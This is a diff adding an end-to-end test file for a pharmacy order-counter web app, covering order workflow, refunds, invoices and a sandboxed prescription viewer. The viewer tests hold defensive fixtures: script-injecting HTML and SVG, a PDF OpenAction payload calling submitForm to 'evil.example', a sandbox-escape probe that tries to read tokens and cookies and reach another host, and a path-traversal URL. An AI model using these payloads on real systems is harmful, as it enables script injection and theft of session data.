@@ -1,0 +1,358 @@
+import { once } from 'node:events';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import type { Frame, Page } from 'playwright-core';
+import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
+import type { Counter } from '../../../infra/ops/counter/server/server.ts';
+import { setClock } from '../../../shared/runtime/clock.ts';
+import {
+  type CounterBrowser,
+  type CounterPage,
+  DESK,
+  OPERATOR,
+  openTestCounter,
+  PHONE,
+  type Screen,
+  startBrowser,
+} from '../../support/counter/counter-page.ts';
+import { forceOrder, placeOrder, storedOrder } from '../../support/counter/placed-orders.ts';
+import { drawnPdf, drawnPng } from '../../support/counter/prescription-files.ts';
+import { sendHttp } from '../../support/http/http.ts';
+import { ISSUED, taxDocument } from '../../support/invoices/tax-documents.ts';
+import { openTestServer, type TestServer } from '../../support/servers/test-server.ts';
+
+// This is noon on a Monday in Mexico City.
+const NOON = new Date('2026-11-23T18:00:00.000Z');
+const BLUE = '0 0 1 rg 0 0 612 792 re f';
+const RED = '1 0 0 rg 0 0 612 792 re f';
+
+let server: TestServer;
+let counter: Counter;
+let browser: CounterBrowser;
+beforeAll(async () => {
+  setClock(NOON);
+  server = await openTestServer();
+  counter = await openTestCounter();
+  browser = await startBrowser();
+});
+afterAll(async () => {
+  setClock();
+  await browser?.close();
+  await counter.close();
+  await server.close();
+});
+
+// A browser says of each answer that is a refusal.
+const REFUSED = /responded with a status of (400|409) /;
+
+const opened: CounterPage[] = [];
+afterEach(async () => {
+  for (const each of opened.splice(0)) {
+    expect(each.takeComplaints().filter((said) => !REFUSED.test(said))).toEqual([]);
+    await each.close();
+  }
+});
+
+/** Opens the view of an order; a complaint of its console fails the test. */
+async function openOrder(id: number, screen: Screen = DESK): Promise<CounterPage> {
+  const shown = await browser.open(counter, screen, `#/orders/${id}`);
+  opened.push(shown);
+  await shown.page.getByRole('heading', { name: `RX-${String(id).padStart(8, '0')}` }).waitFor();
+  await shown.page.getByRole('group', { name: /Acciones|Actions/ }).waitFor();
+  return shown;
+}
+
+/** Presses keys one after another; what is no key is typed. */
+async function press({ keyboard }: Page, ...keys: readonly string[]): Promise<void> {
+  for (const key of keys) await (/^(\w|[A-Z][A-Za-z+]+)$/.test(key) ? keyboard.press(key) : keyboard.type(key));
+}
+
+const dialog = (page: Page, name: string) => page.getByRole('dialog', { name });
+const told = (page: Page, text: string) => page.locator('.notice').getByText(text).waitFor();
+
+let documents = 0;
+/** Returns a PDF that no other prescription has. */
+const newPdf = (...pages: readonly string[]): Buffer =>
+  drawnPdf((pages.length > 0 ? pages : [BLUE]).map((page) => `${page} % ${++documents}`));
+
+describe('an order at the counter', { timeout: 60_000 }, () => {
+  it('is verified, approved, paid and sent by keys alone', async () => {
+    const id = await placeOrder(server, [newPdf()]);
+    const { page } = await openOrder(id);
+    await press(page, 'v');
+    await dialog(page, 'Verificar receta').getByText('Se verifica para: 1 × Ibuprofeno 800 mg').waitFor();
+    await press(page, 'Dra. Eva Luna', 'Tab', '12-34', 'Enter');
+    await dialog(page, 'Verificar receta').getByText('Debe ser el número de una cédula').waitFor();
+    expect(await page.evaluate('document.activeElement.value')).toBe('12-34');
+    await press(page, 'ControlOrMeta+a', '12345678', 'Tab', 'Calle 5, Puebla', 'Enter');
+    await told(page, 'verificada.');
+    await press(page, 'a', 'Enter');
+    await told(page, 'La orden ahora está: Aprobada.');
+    await press(page, 'p', 'Tab', '28', 'Enter');
+    await told(page, 'El pago ahora está: Pagada.');
+    for (const status of ['En preparación', 'Lista', 'Enviada', 'Entregada']) {
+      await press(page, 'a', 'Enter');
+      await told(page, `La orden ahora está: ${status}.`);
+    }
+    const stored = await storedOrder(id);
+    expect(stored).toMatchObject({
+      orderStatus: 'delivered',
+      paymentStatus: 'paid',
+      paymentForm: '28',
+      prescriptions: [
+        {
+          verification: { by: OPERATOR, lines: [{ productId: 4, quantity: 1 }] },
+          prescriber: { name: 'Dra. Eva Luna', licence: '12345678', address: 'Calle 5, Puebla' },
+        },
+      ],
+    });
+    const byOperator = stored.history.filter(({ by }) => typeof by === 'object' && 'operator' in by);
+    expect(byOperator.map(({ what, to }) => to ?? what)).toEqual([
+      'prescription_verified',
+      'approved',
+      'paid',
+      'in_process',
+      'ready',
+      'shipped',
+      'delivered',
+    ]);
+  });
+
+  it('offers what the rules allow, and no more', async () => {
+    const { page } = await openOrder(await placeOrder(server, [newPdf()]));
+    const actions = page.getByRole('group', { name: 'Acciones' }).getByRole('button');
+    expect(await actions.allTextContents()).toEqual(['Verificar receta', 'Rechazar receta', 'Mover…', 'Pago…']);
+    await press(page, 'm');
+    expect(await dialog(page, 'Mover la orden').getByRole('option').allTextContents()).toEqual([
+      'Cotizada',
+      'Cancelada',
+    ]);
+    await press(page, 'Escape');
+    await page.getByText('receta verificada para 1 × Ibuprofeno 800 mg').waitFor();
+  });
+
+  it('has a prescription rejected with a reason, which is asked for', async () => {
+    const id = await placeOrder(server, [newPdf()]);
+    const { page } = await openOrder(id, { ...DESK, language: 'en' });
+    await press(page, 'x', 'Enter');
+    await dialog(page, 'Reject prescription').getByText('Check the marked fields.').waitFor();
+    await press(page, 'Sin firma', 'Enter');
+    await told(page, 'is rejected.');
+    await page.getByText('Rejected: Sin firma', { exact: true }).waitFor();
+    expect((await storedOrder(id)).prescriptions[0]?.rejection).toMatchObject({ by: OPERATOR, reason: 'Sin firma' });
+  });
+
+  it('has its money refunded up to what was paid', async () => {
+    const id = await placeOrder(server);
+    await forceOrder(id, { paymentStatus: 'paid', paymentForm: '03' });
+    const { page } = await openOrder(id);
+    await press(page, 'd');
+    await dialog(page, 'Devolver dinero').getByText('A lo más $107.50').waitFor();
+    await press(page, 'ControlOrMeta+a', '107.51', 'Enter');
+    await dialog(page, 'Devolver dinero').getByRole('alert').waitFor();
+    await press(page, 'ControlOrMeta+a', '7.50', 'Enter');
+    await told(page, 'Devolución de $7.50 registrada.');
+    expect((await storedOrder(id)).refunds).toMatchObject([{ cents: 750, form: '03' }]);
+  });
+
+  it('gets a credit note of its invoice', async () => {
+    const id = await placeOrder(server);
+    const { stamp, id: providerId } = ISSUED;
+    const invoice = taxDocument({ status: 'issued', stamp, providerId, amountCents: 10_750 });
+    await forceOrder(id, { invoice, cfdi: providerId });
+    const { page } = await openOrder(id);
+    await press(page, 'f');
+    expect(await dialog(page, 'Qué hacer con la factura').getByRole('button').allTextContents()).toEqual([
+      '×',
+      'Sustituir la factura',
+      'Enviar de nuevo el correo',
+      'Nota de crédito',
+    ]);
+    await press(page, 'Tab', 'Tab', 'Enter');
+    await dialog(page, 'Nota de crédito').getByText('A lo más $107.50').waitFor();
+    await press(page, 'ControlOrMeta+a', '50.00', 'Enter');
+    await told(page, 'Nota de crédito: hecho.');
+    expect((await storedOrder(id)).documents).toMatchObject([{ kind: 'credit', amountCents: 5_000 }]);
+    await page.getByRole('row', { name: /Nota de crédito por intentarse de nuevo \$50.00/ }).waitFor();
+  });
+
+  it('names the orders that have the same document', async () => {
+    const file = newPdf();
+    const first = await placeOrder(server, [file]);
+    const second = await placeOrder(server, [file]);
+    const before = await openOrder(first);
+    await press(before.page, 'v', 'Enter');
+    await told(before.page, 'verificada.');
+    const { page } = await openOrder(second);
+    await press(page, 'v', 'Enter');
+    const link = page.getByRole('link', { name: `orden ${first}, receta` });
+    expect(await link.getAttribute('href')).toBe(`#/orders/${first}`);
+  });
+
+  it('is changed by two people, of whom the second sees it and loses nothing that they typed', async () => {
+    const id = await placeOrder(server, [newPdf()]);
+    const [{ page: first }, { page: second }] = [await openOrder(id), await openOrder(id)];
+    await press(second, 'x', 'Sin firma');
+    await press(first, 'v', 'Enter');
+    await told(first, 'verificada.');
+    await press(second, 'Enter');
+    await dialog(second, 'Rechazar receta').getByText(`Receta verificada: `).waitFor();
+    expect(await dialog(second, 'Rechazar receta').getByLabel('Motivo').inputValue()).toBe('Sin firma');
+    expect((await storedOrder(id)).prescriptions[0]?.rejection).toBeNull();
+    await press(second, 'Enter');
+    await told(second, 'rechazada.');
+    // The first one learns of it by themselves, and keeps the focus.
+    await first.getByRole('button', { name: 'Mover…' }).focus();
+    await first.evaluate(`document.dispatchEvent(new Event('visibilitychange'))`);
+    await first.getByText(/^Receta rechazada: \d+: Sin firma \(Eva Farmacéutica\)$/).waitFor();
+    expect(await first.evaluate('document.activeElement.textContent')).toBe('Mover…');
+    await first.getByText('Verificada, ').waitFor();
+    await press(first, 'u');
+    await first.getByText('Rechazada: Sin firma', { exact: true }).waitFor();
+  });
+
+  it.each([
+    ['on a desk, light, in Spanish', DESK],
+    ['on a phone, dark, in English', { ...PHONE, theme: 'dark', language: 'en' }],
+  ] as const)('is accessible and fits the screen, with its dialogs: %s', async (_, screen) => {
+    const { page, findAxeViolations } = await openOrder(await placeOrder(server, [newPdf(), newPdf()]), screen);
+    expect(await page.evaluate('document.documentElement.scrollWidth')).toBe(screen.width);
+    expect(await findAxeViolations()).toEqual([]);
+    await press(page, 'v');
+    await page.getByRole('dialog').waitFor();
+    expect(await findAxeViolations()).toEqual([]);
+  });
+});
+
+/** Returns the frame of the viewer once it has drawn this. */
+async function drawnFrame(page: Page, label: string): Promise<Frame> {
+  await page.frameLocator('iframe').getByRole('img', { name: label }).waitFor();
+  const frame = page.frames().find((each) => each.url().endsWith('/viewer.html'));
+  if (!frame) throw new Error('no frame');
+  return frame;
+}
+
+/** Returns red, green and blue in the middle of what is drawn, and whether it is wide or high. */
+const middleOf = (frame: Frame): Promise<readonly [string, string]> =>
+  frame.evaluate(`(() => {
+    const canvas = document.querySelector('canvas');
+    const { width, height } = canvas;
+    const copy = new OffscreenCanvas(1, 1).getContext('2d');
+    copy.drawImage(canvas, -width / 2, -height / 2);
+    const { data } = copy.getImageData(0, 0, 1, 1);
+    return [data.slice(0, 3).join(' '), width > height ? 'wide' : 'high'];
+  })()`);
+
+describe('a prescription at the counter', { timeout: 60_000 }, () => {
+  it('is drawn page by page if it is a PDF, by keys', async () => {
+    const id = await placeOrder(server, [newPdf(BLUE, RED)]);
+    const { page } = await openOrder(id);
+    const name = `Receta ${(await storedOrder(id)).prescriptions[0]?.id}`;
+    const frame = await drawnFrame(page, `${name}, página 1 de 2`);
+    expect(await middleOf(frame)).toEqual(['0 0 255', 'high']);
+    await press(page, 'ArrowRight');
+    await drawnFrame(page, `${name}, página 2 de 2`);
+    await expect.poll(() => middleOf(frame)).toEqual(['255 0 0', 'high']);
+    await press(page, 'r');
+    await expect.poll(() => middleOf(frame)).toEqual(['255 0 0', 'wide']);
+    const width = () => frame.evaluate(`document.querySelector('canvas').style.width`);
+    await page.keyboard.press('+');
+    await expect.poll(width).toBe('150%');
+  });
+
+  it('is drawn if it is a picture', async () => {
+    const { page } = await openOrder(await placeOrder(server, [drawnPng(300, 200, [200, 30, 30])]));
+    const frame = await drawnFrame(page, 'página 1 de 1');
+    expect(await middleOf(frame)).toEqual(['200 30 30', 'wide']);
+    await press(page, 'r');
+    await expect.poll(() => middleOf(frame)).toEqual(['200 30 30', 'high']);
+  });
+
+  it.each([
+    ['a page of HTML', '<script>parent.document.title = "in"</script>'],
+    [
+      'an SVG with a script',
+      '<svg xmlns="http://www.w3.org/2000/svg"><script>parent.postMessage("in", "*")</script></svg>',
+    ],
+    ['a PDF that is cut off', '%PDF-1.4\n1 0 obj<</Type/Cat'],
+    ['a PDF without pages', '%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n'],
+    ['a PNG of nothing', '\x89PNG\r\n\x1a\n'],
+  ])('says so if it cannot be drawn: %s', async (_, document) => {
+    const { page } = await openOrder(await placeOrder(server));
+    const id = await placeOrder(server, [newPdf()]);
+    const body = Buffer.from(document, 'latin1');
+    await page.route('**/documents/**', (route) => route.fulfill({ body, contentType: 'text/html' }));
+    await page.evaluate(`location.hash = '#/orders/${id}'`);
+    await page.getByRole('alert').getByText('El documento no se puede mostrar').waitFor();
+    expect(await page.title()).toBe(`Orden RX-${String(id).padStart(8, '0')} · Botica`);
+  });
+
+  it('runs nothing of a PDF', async () => {
+    const script = '/OpenAction<</S/JavaScript/JS(app.alert\\(1\\); this.submitForm\\("https://evil.example/"\\))>>';
+    const { page } = await openOrder(await placeOrder(server));
+    const id = await placeOrder(server, [newPdf()]);
+    await page.route('**/documents/**', (route) => route.fulfill({ body: drawnPdf([RED], script) }));
+    await page.evaluate(`location.hash = '#/orders/${id}'`);
+    expect(await middleOf(await drawnFrame(page, 'página 1 de 1'))).toEqual(['255 0 0', 'high']);
+  });
+
+  it('could reach neither the page nor anybody else, whatever it ran', async () => {
+    const shown = await openOrder(await placeOrder(server, [newPdf()]));
+    const frame = await drawnFrame(shown.page, 'página 1 de 1');
+    let reached = 0;
+    const stranger = createServer((_, response) => response.end(String(++reached))).listen(0, '127.0.0.1');
+    await once(stranger, 'listening');
+    const elsewhere = `http://127.0.0.1:${(stranger.address() as AddressInfo).port}/`;
+    const tryAll = `(async () => {
+      const attempt = async (act) => { try { await act(); return 'done'; } catch (error) { return error.name; } };
+      return {
+        origin: self.origin,
+        page: await attempt(() => parent.document.title),
+        token: await attempt(() => sessionStorage.getItem('token')),
+        cookie: await attempt(() => document.cookie),
+        own: await attempt(() => fetch('/session')),
+        other: await attempt(() => fetch('${elsewhere}')),
+        worker: await attempt(() => new Promise((done, fail) => { new Worker('/viewer.js').onerror = () => fail(new Error()); })),
+        top: await attempt(() => { top.location = '${elsewhere}'; }),
+        picture: await attempt(() => new Promise((done, fail) => {
+          const picture = new Image(); picture.onload = done; picture.onerror = () => fail(new Error()); picture.src = '${elsewhere}';
+        })),
+      };
+    })()`;
+    expect(await frame.evaluate(tryAll)).toEqual({
+      origin: 'null',
+      page: 'SecurityError',
+      token: 'SecurityError',
+      cookie: 'SecurityError',
+      own: 'TypeError',
+      other: 'TypeError',
+      worker: 'TypeError',
+      top: 'SecurityError',
+      picture: 'Error',
+    });
+    await frame.evaluate(`void (location.href = '${elsewhere}?secret')`);
+    const said: string[] = [];
+    await expect.poll(() => said.push(...shown.takeComplaints()) && said.join('\n')).toContain("frame-src 'self'");
+    expect(reached).toBe(0);
+    stranger.close();
+  });
+
+  it('is given only with the token, as a file that shows nothing', async () => {
+    const id = await placeOrder(server, [newPdf()]);
+    const prescription = (await storedOrder(id)).prescriptions[0]?.id;
+    const origin = new URL(counter.address).origin;
+    const get = (path: string, headers = {}) => sendHttp(origin, path, { method: 'GET', headers });
+    const bearer = { Authorization: `Bearer ${counter.token}` };
+    expect(await get(`/documents/${id}/${prescription}`)).toMatchObject({ status: 401 });
+    const { status, headers } = await get(`/documents/${id}/${prescription}`, bearer);
+    expect({ status, ...headers }).toMatchObject({
+      status: 200,
+      'content-type': 'application/octet-stream',
+      'content-disposition': 'attachment',
+      'x-content-type-options': 'nosniff',
+      'cache-control': 'no-store',
+    });
+    const others = [`/documents/${id}/999999`, `/documents/999999/${prescription}`, `/documents/${id}/..%2f1`];
+    for (const path of others) expect((await get(path, bearer)).status).toBe(404);
+  });
+});
